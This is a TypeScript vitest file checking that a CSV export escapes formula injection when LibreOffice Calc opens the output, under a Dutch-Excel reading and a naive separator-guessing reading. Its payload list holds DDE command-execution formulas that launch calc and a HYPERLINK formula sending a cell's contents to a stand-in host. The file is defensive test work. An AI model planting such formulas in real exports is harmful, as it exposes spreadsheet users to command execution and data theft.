import { beforeAll, describe, expect, it } from 'vitest';
import { openCsvInLibreOffice, type SheetCell } from '../../../test/support/libreoffice';
import { toCsv } from './csv';

// Proof with a real spreadsheet: a CSV written by toCsv, opened in LibreOffice Calc with formula evaluation on,
// once as Dutch Excel reads it and once as an importer that guesses every other separator and ignores quotes.

/** Text someone could type into a plan action, goal or name, and what a spreadsheet must show for it. */
const PAYLOADS: readonly { cell: string; shown: string }[] = [
  { cell: '=1+1', shown: "'=1+1" },
  { cell: '+1+1', shown: "'+1+1" },
  { cell: '-1+2', shown: "'-1+2" },
  { cell: '-5', shown: "'-5" },
  { cell: '@SUM(1;2)', shown: "'@SUM(1;2)" },
  { cell: "=cmd|' /C calc'!A0", shown: "'=cmd|' /C calc'!A0" },
  { cell: "-2+3+cmd|' /C calc'!A0", shown: "'-2+3+cmd|' /C calc'!A0" },
  { cell: "@SUM(1+9)*cmd|' /C calc'!A0", shown: "'@SUM(1+9)*cmd|' /C calc'!A0" },
  { cell: '=DDE("cmd";"/C calc";"A0")', shown: `'=DDE("cmd";"/C calc";"A0")` },
  { cell: '=HYPERLINK("http://x.test/?d="&A1;"klik")', shown: `'=HYPERLINK("http://x.test/?d="&A1;"klik")` },
  { cell: "x;=cmd|' /C calc'!A0", shown: "x;'=cmd|' /C calc'!A0" },
  { cell: 'x,=1+1', shown: "x,'=1+1" },
  { cell: 'x\t=1+1', shown: "x\t'=1+1" },
  { cell: 'x; =1+1', shown: "x; '=1+1" },
  { cell: ' =1+1', shown: " '=1+1" },
  { cell: '\t=1+1', shown: "'\t'=1+1" },
  // Calc reads a CR or CRLF inside a cell as a line break.
  { cell: '\r=1+1', shown: "'\n'=1+1" },
  { cell: 'regel 1\r\n=1+1', shown: "regel 1\n'=1+1" },
  { cell: 'Lijst:\n- één\n- twee', shown: "Lijst:\n'- één\n'- twee" },
  { cell: 'zei "ja"; -1', shown: `zei "ja"; '-1` },
  { cell: '"=1+1"', shown: '"=1+1"' },
  { cell: 'a=b+c-d@e', shown: 'a=b+c-d@e' },
  { cell: 'Één café, Zoë; ’s middags – groep 8', shown: 'Één café, Zoë; ’s middags – groep 8' },
];

const NUMBERS = [2.5, -1.25, 0, 3, 1234.5, 2.3333333333333335, 0.1 + 0.2];

const CSV = toCsv(
  ['tekst', 'getal'],
  [...PAYLOADS.map(({ cell }) => [cell, null]), ...NUMBERS.map((number) => ['getal', number]), ['waar', true], ['datum', '2026-12-15']],
);

// What an importer makes of the file if it splits on , ; tab and every line break, ignores quotes and trims spaces.
function naivePiecesOf(text: string): string[][] {
  const lines = text.replace(/^\uFEFF/, '').split(/\r\n|\r|\n/);
  if (lines.at(-1) === '') lines.pop();
  return lines.map((line) => {
    const pieces = line.split(/[,;\t]/).map((piece) => piece.replace(/^ +| +$/g, ''));
    while (pieces.at(-1) === '') pieces.pop();
    return pieces;
  });
}

describe('CSV exports opened in LibreOffice Calc', () => {
  let dutchExcel: SheetCell[][];
  let wrongGuess: SheetCell[][];

  beforeAll(() => {
    dutchExcel = openCsvInLibreOffice(CSV, { separators: [';'], textDelimiter: '"', language: 1043, trimSpaces: false });
    wrongGuess = openCsvInLibreOffice(CSV, { separators: [',', ';', '\t'], textDelimiter: null, language: 1043, trimSpaces: true });
  }, 180_000);

  it('read as Dutch Excel does (; and quotes): every payload is one text cell, shown literally with its escape', () => {
    for (const cell of dutchExcel.flat()) expect(cell.formula, cell.text).toBeUndefined();
    expect(dutchExcel[0]).toEqual([
      { type: 'string', text: 'tekst' },
      { type: 'string', text: 'getal' },
    ]);
    expect(dutchExcel.slice(1, 1 + PAYLOADS.length)).toEqual(PAYLOADS.map(({ shown }) => [{ type: 'string', text: shown }]));
  });

  it('read as Dutch Excel does: numbers with a decimal comma are numbers, true is no formula, an ISO date is a date', () => {
    const rest = dutchExcel.slice(1 + PAYLOADS.length);
    expect(rest).toHaveLength(NUMBERS.length + 2);
    for (const [index, number] of NUMBERS.entries()) {
      const [label, cell] = rest[index]!;
      expect(label).toEqual({ type: 'string', text: 'getal' });
      expect(cell?.type).toBe('float');
      // Calc keeps 15 significant digits.
      expect(cell?.value).toBeCloseTo(number, 12);
    }
    const [, truth] = rest.at(-2)!;
    expect(truth?.formula).toBeUndefined();
    expect(truth?.text.toLowerCase()).toBe('true');
    expect(rest.at(-1)?.[1]?.type).toBe('date');
  });

  it('read with a wrong guess (, ; and tab, quotes ignored, spaces trimmed): every piece is literal text and none starts a formula', () => {
    const pieces = naivePiecesOf(CSV);
    expect(wrongGuess).toHaveLength(pieces.length);
    for (const [rowIndex, row] of pieces.entries()) {
      const cells = wrongGuess[rowIndex]!;
      expect(cells, `line ${rowIndex + 1}`).toHaveLength(row.length);
      for (const [columnIndex, piece] of row.entries()) {
        const cell = cells[columnIndex]!;
        expect(cell.formula, piece).toBeUndefined();
        expect(cell).toEqual(piece === '' ? { type: '', text: '' } : { type: 'string', text: piece });
        expect(cell.text).not.toMatch(/^[=+\-@]/);
      }
    }
  });
});
